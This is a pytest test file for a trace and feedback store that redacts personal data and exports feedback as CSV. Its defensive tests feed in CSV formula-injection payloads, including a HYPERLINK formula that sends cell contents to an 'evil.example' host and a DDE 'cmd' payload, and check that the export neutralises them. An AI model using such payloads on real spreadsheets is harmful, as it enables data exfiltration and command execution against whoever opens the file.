"""TraceStore: traces redacted, feedback linked, CSV export, content-gap report, WAL."""

from __future__ import annotations

import csv
import io
import sqlite3
import threading
from pathlib import Path

import pytest

from assistant.errors import InputError, StorageError
from assistant.traces import TraceStore
from assistant.types import Answer, Chunk, Citation, Hit


def _chunk(n: int, themes: tuple[str, ...] = ("digital",)) -> Chunk:
    return Chunk(
        id=f"doc{n}::0000::abc",
        document_id=f"doc{n}",
        position=0,
        text=f"Passage {n} about digital transformation.",
        title=f"Document {n}",
        page_start=n,
        themes=themes,
    )


def _answer(
    answer_id: str = "a1",
    question: str = "How do councils use data?",
    *,
    refused: bool = False,
    cited: bool = True,
    themes: tuple[str, ...] = ("digital",),
) -> Answer:
    chunks = [_chunk(1, themes), _chunk(2, themes)]
    return Answer(
        id=answer_id,
        question=question,
        standalone_question=question,
        audience="councillor",
        text="" if refused else "Councils share data [1].",
        citations=(Citation(1, chunks[0], "Passage 1"),) if cited and not refused else (),
        refused=refused,
        refusal_reason="not covered" if refused else None,
        hits=tuple(Hit(chunk=c, score=1.0 / (i + 1)) for i, c in enumerate(chunks)),
        timings_ms={"retrieve": 3.0, "generate": 5.0, "total": 9.0},
    )


@pytest.fixture(params=["sqlite", pytest.param("postgres", marks=pytest.mark.integration)])
def store(request: pytest.FixtureRequest, tmp_path: Path):  # type: ignore[no-untyped-def]
    """The SQLite store, and the PostgreSQL one (same behaviour, shared by replicas)."""
    if request.param == "sqlite":
        yield TraceStore(tmp_path / "data" / "traces.sqlite3")
        return
    from assistant.postgres_traces import PostgresTraceStore

    pg = PostgresTraceStore(request.getfixturevalue("pg_url"))
    yield pg
    pg.close()


def test_record_keeps_hits_citations_and_timings(store: TraceStore) -> None:
    store.record(_answer(), client="203.0.113.9")
    trace = store.trace("a1")
    assert trace is not None
    assert trace["client"] == "203.0.113.9"
    assert [h["chunk_id"] for h in trace["hits"]] == ["doc1::0000::abc", "doc2::0000::abc"]
    assert trace["hits"][1]["score"] == pytest.approx(0.5)
    assert trace["citations"] == [
        {
            "n": 1,
            "chunk_id": "doc1::0000::abc",
            "document_id": "doc1",
            "title": "Document 1",
            "page": 1,
        }
    ]
    assert trace["timings"]["total"] == 9.0
    assert trace["answer"] == "Councils share data [1]."
    assert store.exists("a1") and not store.exists("nope")


def test_personal_data_is_redacted_before_storage(store: TraceStore, tmp_path: Path) -> None:
    question = (
        "I'm jo.bloggs@example.org, tel 07700 900123, NI AB123456C, "
        "living at 10 Downing Street, London SW1A 2AA: how do I get help?"
    )
    store.record(_answer(question=question))
    store.feedback("a1", "down", ["Not accurate"], "call me on 020 7946 0018")
    if store.path is None:  # PostgreSQL: every stored column instead of the file's bytes
        raw = repr(store._read("SELECT * FROM traces") + store._read("SELECT * FROM feedback"))
        raw = raw.encode()
    else:
        raw = (tmp_path / "data" / "traces.sqlite3").read_bytes()
        wal = tmp_path / "data" / "traces.sqlite3-wal"
        raw += wal.read_bytes() if wal.exists() else b""
    for secret in (b"jo.bloggs", b"07700", b"AB123456C", b"SW1A", b"7946"):
        assert secret not in raw
    trace = store.trace("a1")
    assert trace is not None
    assert "[EMAIL]" in trace["question"] and "[NI NUMBER]" in trace["question"]
    assert "[PHONE]" in store.feedback_rows()[0]["comment"]


def test_feedback_requires_known_answer_and_valid_rating(store: TraceStore) -> None:
    with pytest.raises(InputError, match="No answer"):
        store.feedback("missing", "up")
    store.record(_answer())
    with pytest.raises(InputError, match="up' or 'down"):
        store.feedback("a1", "meh")
    store.feedback("a1", "up", ["useful sources", " "], None)
    rows = store.feedback_rows()
    assert [(r["rating"], r["reasons"], r["comment"]) for r in rows] == [
        ("up", ["Useful sources"], None)
    ]
    with pytest.raises(InputError, match="Unknown feedback reason '=HYPERLINK"):
        store.feedback("a1", "down", ['=HYPERLINK("http://evil")'])


def test_feedback_csv_has_one_row_per_feedback(store: TraceStore) -> None:
    store.record(_answer("a1"))
    store.record(_answer("a2", "What is TIEx?"))
    store.feedback("a1", "up")
    store.feedback("a2", "down", ["not accurate", "missing information"], "Too vague")
    rows = list(csv.DictReader(io.StringIO(store.feedback_csv())))
    assert [r["answer_id"] for r in rows] == ["a1", "a2"]
    assert rows[1]["reasons"] == "Not accurate; Missing information"
    assert rows[1]["question"] == "What is TIEx?"
    assert rows[1]["citations"] == "[1] Document 1"


def test_gaps_group_refused_uncited_and_downrated_by_theme(store: TraceStore) -> None:
    store.record(_answer("ok", "Good question"))
    store.record(_answer("r1", "Who wins the election?", refused=True, themes=("politics",)))
    store.record(_answer("r2", "Write me a poem", refused=True, themes=("politics",)))
    store.record(_answer("u1", "What about bins?", cited=False, themes=("waste",)))
    store.record(_answer("d1", "What about roads?", themes=("waste",)))
    store.feedback("d1", "down", ["Not accurate"])
    gaps = store.gaps()
    by_theme = {g["theme"]: g for g in gaps}
    assert gaps[0]["count"] == 2
    ids = {q["answer_id"] for g in gaps for q in g["questions"]}
    assert ids == {"r1", "r2", "u1", "d1"}  # the well-answered question is not a gap
    reasons = {q["answer_id"]: q["reason"] for g in gaps for q in g["questions"]}
    assert reasons["r1"].startswith("refused") and reasons["u1"] == "no citation"
    assert reasons["d1"] == "rated unhelpful"
    assert sum(g["count"] for g in by_theme.values()) >= 4


def test_wal_mode_and_survives_reopen(tmp_path: Path) -> None:
    path = tmp_path / "traces.sqlite3"
    store = TraceStore(path)
    assert store.journal_mode() == "wal"
    store.record(_answer())
    store.feedback("a1", "up")
    # A second connection (as after a restart) sees committed rows without a clean close.
    again = TraceStore(path)
    assert again.exists("a1") and len(again.feedback_rows()) == 1
    with sqlite3.connect(path) as conn:
        assert conn.execute("PRAGMA journal_mode").fetchone()[0] == "wal"


def test_concurrent_records_from_threads(store: TraceStore) -> None:
    def work(i: int) -> None:
        for j in range(20):
            store.record(_answer(f"t{i}-{j}"))
            store.feedback(f"t{i}-{j}", "up")

    threads = [threading.Thread(target=work, args=(i,)) for i in range(6)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert store.count() == 120
    assert len(store.feedback_rows()) == 120


def test_unwritable_location_gives_storage_error(tmp_path: Path) -> None:
    blocker = tmp_path / "file"
    blocker.write_text("not a directory")
    with pytest.raises(StorageError, match="data directory"):
        TraceStore(blocker / "traces.sqlite3")


def test_amend_feedback_replaces_reasons_and_comment(store: TraceStore) -> None:
    store.record(_answer())
    feedback_id = store.feedback("a1", "down")
    store.amend_feedback(
        feedback_id, rating="down", reasons=["Not accurate"], comment="See a@b.org"
    )
    rows = store.feedback_rows()
    assert len(rows) == 1
    assert rows[0]["reasons"] == ["Not accurate"] and rows[0]["comment"] == "See [EMAIL]"
    with pytest.raises(InputError):
        store.amend_feedback(999, rating="up")


def test_feedback_csv_neutralises_formulas(store: TraceStore) -> None:  # #15.6
    store.record(_answer("a1", '=HYPERLINK("http://evil.example/?"&A1,"click")'))
    store.record(_answer("a2", "+1 what is TIEx?"))
    store.feedback("a1", "down", ["Not accurate"], "=cmd|' /C calc'!A0")
    store.feedback("a2", "up", [], "@SUM(A1:A9)")
    store.feedback("a2", "up", [], "-2+3")
    store.feedback("a2", "up", [], "Fine - no formula = here")
    rows = list(csv.DictReader(io.StringIO(store.feedback_csv())))
    assert rows[0]["question"] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
    assert rows[0]["comment"] == "'=cmd|' /C calc'!A0"
    assert rows[1]["question"] == "'+1 what is TIEx?"
    comments = [r["comment"] for r in rows[1:]]
    assert comments[:2] == ["'@SUM(A1:A9)", "'-2+3"]
    assert comments[2] == "Fine - no formula = here"
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


def test_spreadsheet_safe_cells() -> None:
    from assistant.traces import spreadsheet_safe

    assert spreadsheet_safe("=1+1") == "'=1+1"
    assert spreadsheet_safe("\tx") == "'\tx" and spreadsheet_safe("\rx") == "'\rx"
    assert spreadsheet_safe("safe") == "safe"
    assert spreadsheet_safe(None) == ""
    assert spreadsheet_safe(3) == "3"
